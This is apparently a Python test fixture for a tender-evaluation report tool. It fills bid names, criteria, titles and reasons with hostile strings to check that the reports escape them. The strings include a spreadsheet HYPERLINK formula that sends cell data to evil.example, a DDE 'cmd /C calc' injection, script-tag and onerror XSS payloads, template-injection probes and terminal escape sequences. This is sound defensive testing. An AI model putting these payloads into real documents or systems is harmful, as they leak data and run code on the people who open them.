"""A tender in which every text from outside wants to be something else: a formula, markup, mathematics, a command."""

from __future__ import annotations

import dataclasses
from pathlib import Path

from report.made_reports import evaluate, policy_data, read_tender, write_folder
from supplier_eval.evaluation import Evaluation
from supplier_eval.policy import Policy
from supplier_eval.policy.criteria import Words

NAMES = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "<img src=x onerror=alert(1)>",
    "$x^2$ \\alpha_{1} \\(y\\)",
    "\u202edlrow\u202c \u200fאבג\u2066x\u2069",
    "{{7*7}} ${7*7} {% raw %} #{7*7} <%= 7*7 %>",
    "</script><script>alert(2)</script>",
    "bell\x07 \x1b[31mred\x1b[0m \x1b]0;title\x07 back\x08space \x9b31m",
    "first line\nsecond line\r\nthird\tcell",
    "long " * 60,
    "\"quotes\" 'single' back\\slash `tick` ]]> <!-- --> &lt; &#x3c;",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-1 [bold red]markup[/bold red] [link=http://evil.example]x[/link]",
    "\tTab first, -2+3",
)
LETTERS = ("alert(1)", "x^2", "7*7", "alert(2)", "HYPERLINK", "@SUM", "markup", "]]>")
"""What must still be read: names are shown, not swallowed."""


def hostile(folder: Path) -> Evaluation:
    """Thirteen bids; names of people, criteria, gates, lot and tender, reasons and units are hostile too."""
    data = policy_data(ties={"keys": ["lower_price"]})
    for n, criterion in enumerate(data["criteria"]):
        text = NAMES[n % len(NAMES)].strip()
        criterion["name"] = {"en": f"{text} {n}", "zh": f"{n} {text}"}
        if criterion.get("unit"):
            criterion["unit"] = NAMES[0]
    data["gates"][0]["name"] = {"en": NAMES[5], "zh": NAMES[1]}
    data["title"] = {"en": NAMES[1], "zh": NAMES[5]}
    names = [" ".join(plain_enough(name).split()) for name in NAMES]
    ruling = {"bid": "B4", "case": "price.abnormal.below_share_of_mean", "ruling": "accept", "value": ""}
    ruling |= {"by": "somebody", "on": "2026-03-09", "reason": "shown"}
    write_folder(
        folder,
        Policy.from_mapping(data),
        names,
        facts={(2, "licence"): "no"},
        late=[4],
        marks={(0, "team", "E3"): 5.0},
        prices=[400_000 if i == 3 else 1_000_000 + 10_000 * i for i in range(len(names))],
        rulings=[ruling],
    )
    tender = read_tender(folder)
    for bid, name in zip(tender.bids.index, NAMES, strict=True):
        tender.bids.loc[bid, "name"] = name
    people = {
        one: dataclasses.replace(person, name=NAMES[i]) for i, (one, person) in enumerate(tender.evaluators.items())
    }
    notice = tender.notice
    title, buyer = Words(en=NAMES[5], zh=NAMES[6]), Words(en=NAMES[6], zh=NAMES[0])
    notice = notice.model_copy(update={"title": title, "buyer": buyer})
    rulings = tuple(dataclasses.replace(one, by=NAMES[6], reason=NAMES[5]) for one in tender.rulings)
    return evaluate(dataclasses.replace(tender, evaluators=people, notice=notice, rulings=rulings))


def plain_enough(text: str) -> str:
    """What a table takes: no control characters."""
    return "".join(c for c in text if c.isprintable())
